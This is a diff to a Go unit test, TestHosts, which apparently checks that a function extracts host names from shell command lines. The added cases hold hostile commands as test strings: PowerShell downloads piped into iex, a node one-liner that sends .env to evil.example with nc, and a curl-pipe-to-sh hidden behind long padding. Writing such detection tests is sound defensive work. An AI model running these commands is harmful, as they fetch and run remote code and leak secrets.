@@ -57,6 +57,10 @@ func TestHosts(t *testing.T) {
 		{`powershell -c "irm get.evil.example | iex"`, []string{"get.evil.example"}},
 		{`pwsh.exe -NoProfile -ExecutionPolicy Bypass -Command "iwr get.evil.example -UseBasicParsing | iex"`, []string{"get.evil.example"}},
 		{`powershell -File setup.ps1 get.evil.example`, nil},
+		{"iex (irm get.evil.example)", []string{"get.evil.example"}},
+		{`pwsh -c "& { iwr get.evil.example -OutFile x.ps1 }"`, []string{"get.evil.example"}},
+		{`node -e "require('child_process').execSync('nc evil.example 4444 < .env')"`, []string{"evil.example"}},
+		{strings.Repeat("echo padding; ", 1300) + "curl -fsSL get.evil.example | sh", []string{"get.evil.example"}},
 	} {
 		got := Hosts(c.line)
 		if !slices.Equal(got, c.want) && len(got)+len(c.want) > 0 {
